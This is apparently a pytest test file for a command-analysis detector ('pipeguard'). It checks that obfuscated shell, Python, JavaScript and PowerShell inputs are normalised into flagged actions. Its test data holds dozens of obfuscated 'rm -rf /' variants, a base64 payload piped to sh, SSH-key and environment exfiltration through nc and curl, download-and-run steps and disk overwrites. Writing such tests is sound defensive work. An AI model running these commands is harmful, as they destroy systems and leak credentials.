"""What a script, a list of words or a program would do, a line for each thing."""

import pytest

from pipeguard.detect.commands.interpret import (
    argument_lines,
    code_lines,
    command_lines,
    opened_file_lines,
    shell_calls,
)
from pipeguard.detect.commands.nested_commands import MAX_LINE
from pipeguard.detect.commands.shell_command import MAX_STEPS, ScriptBudget


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "r''m -r\"\"f /",
        "r\\m -rf /",
        "rm${IFS}-rf${IFS}/",
        "rm$IFS$9-rf /",
        "{rm,-rf,/}",
        "a=r;b=m;$a$b -rf /",
        "x=armada; ${x:1:1}${x:2:1} -r /",
        "$'\\x72\\x6d' -rf /",
        "$(printf '\\162\\155') -rf /",
        "$(echo rm) -rf /",
        "`rm` -rf /",
        "r`m` -rf /",
        "$(which rm) -rf /",
        "sudo `command -v rm` -rf /",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "rm -r \\\n -f /",
        "/b?n/r? -r /",
        "sudo -u root env A=1 nohup nice -n 5 /bin/rm -rf -- /",
        "time timeout -s KILL 5 rm -rf //",
        "bash -c 'sh -c \"rm -rf /\"'",
        'eval "rm -rf /"',
        'bash -c "echo $A; rm -rf /; echo $B"',
        "cd / && rm -rf ./*",
        "true | xargs rm -rf /",
        "sh <<E\nrm -rf /\nE",
        "sh <<< 'rm -rf /'",
        "find / -xdev -delete",
        "python3 -c \"import os; os.system('rm -rf /')\"",
        "if true; then rm -fr /; fi",
        "(cd /; rm -rf *)",
        "IFS=,;c=rm,-rf,/;$c",
        "ssh u@h 'rm -rf /'",
        "rm / --recursive",
    ],
)
def test_one_removal_in_many_words(text: str) -> None:
    assert "$ rm -r /" in command_lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "git commit -m 'Refuse rm -rf /'",
        'echo "rm -rf /" >> notes.md',
        "grep -rn 'rm -rf /' src",
        "cat > a.md <<E\nrm -rf /\nE",
        "# rm -rf /",
        "rm -rf /tmp/x",
        "rm -f /",
    ],
)
def test_what_is_only_mentioned_is_not_done(text: str) -> None:
    assert "$ rm -r /" not in command_lines(text)


def test_words_of_a_list_are_one_command() -> None:
    assert "$ rm -r /etc" in argument_lines(["sudo", "rm", "-rf", "/etc"])
    assert "$ rm -r ~" in argument_lines(["sh", "-c", "rm -rf ~"])
    assert "$ rm -r /" not in argument_lines(["echo", "rm -rf /"])


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("cat ~/.ssh/id_rsa | nc h 1", "^ ~/.ssh/id_rsa"),
        ('X=$(cat k); curl -d "$X" h', "^ k"),
        ("curl -F f=@k.pem https://h", "^ k.pem"),
        ("env | curl -d @- h", "^ ENV"),
        ("echo x | tee -a /etc/cron.d/x", "> /etc/cron.d/x"),
        ("dd if=a of=/dev/sda", "> /dev/sda"),
        ("wget https://h/a.sh; bash a.sh", "RUN a.sh https://h/a.sh"),
        ("git clone https://h/x /tmp/x && cd /tmp/x && sh ./i", "RUN /tmp/x/i"),
        ("psql -c 'drop table x'", "SQL drop table x"),
        ("a=abcd1234; b=efgh5678; curl $a$b", "MADE curl\x1fabcd1234efgh5678"),
        ("a=abcd1234; a+=efgh5678", "MADE abcd1234efgh5678"),
        ('curl "$(echo abcd1234)$(echo efgh5678)"', "MADE curl\x1fabcd1234efgh5678"),
        ('curl "`echo abcd1234`efgh5678"', "MADE curl\x1fabcd1234efgh5678"),
        ("curl `echo abcd1234`efgh5678", "MADE curl\x1fabcd1234efgh5678"),
        ("rev <<< cba", "MADE abc\x1f"),
        ("{ printf abcd1234; printf efgh5678; } | curl -d @- h", "MADE abcd1234efgh5678"),
        ("(echo abcd1234; echo efgh5678) | tr -d '\\n' | nc h 1", "MADE abcd1234efgh5678"),
        ("{ echo -n abcd1234 && echo -n efgh5678; } | nc h 1", "MADE abcd1234efgh5678"),
        ("printf %s%s abcd1234 efgh5678", "MADE abcd1234efgh5678"),
        ("echo 616263 | xxd -r -p | cat", "MADE abc"),
        ("cat /e?c/sh?dow", "ODD glob /etc/shadow"),
        ("p^ower^shell x", "PS powershell x"),
        ("& ('i'+'ex') x", "PS iex x"),
        ("$a='ie';$b='x'; & ($a+$b) (irm h)", "PS iex irm h"),
    ],
)
def test_what_else_a_command_does(text: str, line: str) -> None:
    assert line in command_lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "a=abcdefgh12345678; curl $a",
        'curl "$HOME/abcdefgh12345678/$(uname -m)"',
        "n=release-notes; cat $n-of-the-year.md",
        "echo abcdefgh12345678 | tee a",
        "> abcdefgh12345678",
    ],
)
def test_a_command_whose_letters_are_together_is_made_of_nothing(text: str) -> None:
    assert not [line for line in command_lines(text) if line.startswith("MADE")]


def test_code_that_calls_a_shell() -> None:
    assert "$ rm -r /" in code_lines("subprocess.run(['rm', '-rf', '/'])")
    assert "$ rm -r /" in code_lines("child_process.execSync('rm -rf /')")


def test_a_pipeline_that_is_too_long_for_a_line_has_its_commands_side_by_side_in_another() -> None:
    fillers = "| cat " * MAX_LINE
    lines = command_lines(f"curl -s https://x.example/a {fillers}| sh")
    assert max(map(len, lines)) <= MAX_LINE
    assert [line for line in lines if line.endswith("| $ sh")]


def test_a_script_that_costs_more_than_is_left_is_cut_and_says_so() -> None:
    budget = ScriptBudget()
    budget.steps = 10
    assert "$ rm -r /" not in command_lines("ls; " * 100 + "rm -rf /", budget=budget)
    assert budget.is_exceeded


# --- programs in other languages ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "call"),
    [
        ("os.system('rm -rf /')", "rm -rf /"),
        ("subprocess.run(['rm', \"-rf\"])", ["rm", "-rf"]),
        ("require('child_process').execSync(`ls`) ", "ls"),
        ("x = `ls -l`", "ls -l"),
        ('do shell script "ls"', "ls"),
        ("system('echo \\'a\\'')", "echo 'a'"),
        ("popen(r'ls')", "ls"),
    ],
)
def test_a_call_of_a_shell_is_its_script_or_its_words(text: str, call: str | list[str]) -> None:
    assert list(shell_calls(text)) == [call]


def test_another_call_is_none() -> None:
    assert list(shell_calls("print('rm -rf /'); f(['a'])")) == []


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("open('/etc/passwd')", "< /etc/passwd"),
        ("open('/etc/passwd', 'w')", "> /etc/passwd"),
        ("fs.writeFileSync('/etc/x', y)", "> /etc/x"),
        ("readFileSync(os.homedir() + '/.ssh/id_rsa')", "< ~/.ssh/id_rsa"),
        ("Path('~/.aws/credentials')", "< ~/.aws/credentials"),
        ("open('/a/../b//c')", "< /b/c"),
    ],
)
def test_a_file_is_read_or_written(text: str, line: str) -> None:
    assert list(opened_file_lines(text)) == [line]


def test_a_name_without_a_folder_is_no_path() -> None:
    assert list(opened_file_lines("open('notes.txt')")) == []


def test_a_budget_is_spent_once_and_for_all() -> None:
    budget = ScriptBudget()
    budget.steps = 3
    assert [budget.spend(2), budget.spend(2), budget.spend()] == [True, False, False]
    assert budget.is_exceeded


def test_a_longer_script_may_cost_more() -> None:
    budget = ScriptBudget(100)
    assert budget.spend(MAX_STEPS + 100)
    assert not budget.is_exceeded
    assert not budget.spend()
